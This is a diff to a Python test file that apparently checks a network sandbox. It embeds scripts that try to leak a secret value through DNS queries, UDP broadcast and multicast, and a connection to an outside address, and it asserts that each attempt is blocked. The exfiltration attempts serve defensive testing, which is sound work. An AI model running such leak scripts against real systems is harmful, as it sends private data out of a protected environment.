@@ -137,7 +137,7 @@ def test_other_questions_are_not_forwarded(evil, packet):
     answers the next question as before (43, 45)."""
     found = inside(evil, f"""
 DATA = b'{SECRET}'
-for tcp in (False, True):
+for tcp in {{TCP_DNS, True}}:
     s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
     s.connect(("198.18.0.1", 53))
     packet = {PACKETS[packet]}
@@ -189,6 +189,9 @@ for a in {addresses!r} + ["224.0.0.251", "224.0.0.252", "255.255.255.255"]:
     for p in {list(UDP.values())!r}:
         try:
             s = socket.socket(socket.AF_INET6 if ":" in a else socket.AF_INET, socket.SOCK_DGRAM)
+        except PermissionError:
+            continue
+        try:
             s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
             if a.startswith("224"):
                 s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, struct.pack("!4s4si", b"", b"", socket.if_nametoindex("up0")))
@@ -198,8 +201,8 @@ for a in {addresses!r} + ["224.0.0.251", "224.0.0.252", "255.255.255.255"]:
             s.sendto(b"{SECRET}", (a, p))
         except OSError:
             pass
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 try:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.connect(("11.0.0.10", 443))
     s.send(b"last")
     print(s.recv(100))
@@ -213,7 +216,7 @@ except OSError as e:
     before = len(seen())
     for rules in ({"allow": ["ok.example.com"]}, {"options": ["--network", "full"]}):
         r = evil.sandbox(*python(evil, script), **rules)
-        assert r.out == b"ConnectionRefusedError\n", r
+        assert r.out == (b"ConnectionRefusedError\n" if evil.rung == "full" else b"PermissionError\n"), r
     assert len(seen()) == before and evil.queries() == []
 
 
